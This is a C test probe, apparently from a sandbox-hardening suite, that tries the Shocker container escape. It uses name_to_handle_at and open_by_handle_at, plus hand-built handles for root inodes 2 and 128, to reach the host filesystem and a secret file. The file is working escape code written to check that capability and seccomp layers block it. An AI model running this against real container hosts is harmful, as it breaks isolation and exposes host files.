// id = "files-handles"
// title = "open the host's root by an inode handle (Shocker)"
// guarantee = "filesystem"
// layers = ["capabilities", "seccomp"]
// source = ["CVE-2022-0492", "shocker.c (2014)"]
// needs = ["secret-file"]
// bare = "root"
#include "attack.h"

struct handle {
    unsigned int bytes;
    int type;
    unsigned char body[128];
};

int main(int argc, char **argv) {
    attack_start(argc, argv);
    const char *path = prop("secret_path");
    struct handle found = {.bytes = 128};
    int mount = 0, fd;
    int base = open("/", O_RDONLY | O_DIRECTORY);
    long named = syscall(SYS_name_to_handle_at, AT_FDCWD, path, &found, &mount, 0);
    if (named < 0) {
        tried("name_to_handle_at", named);
        int inside = open(".", O_RDONLY | O_DIRECTORY);
        named = syscall(SYS_name_to_handle_at, AT_FDCWD, ".", &found, &mount, 0);
        tried("open_by_handle_at of own directory",
              fd = syscall(SYS_open_by_handle_at, inside, &found, O_RDONLY));
    } else if (tried("open_by_handle_at", fd = syscall(SYS_open_by_handle_at, base, &found, O_RDONLY)))
        attack_show(fd);
    /* ext4 and xfs keep the root of a file system at inode 2 or 128, with type 1 and 8 bytes. */
    for (int inode = 2; inode <= 128; inode += 126) {
        struct handle root = {.bytes = 8, .type = 1};
        root.body[0] = inode;
        tried("open_by_handle_at of the root inode",
              syscall(SYS_open_by_handle_at, base, &root, O_RDONLY | O_DIRECTORY));
    }
    attack_finish();
}
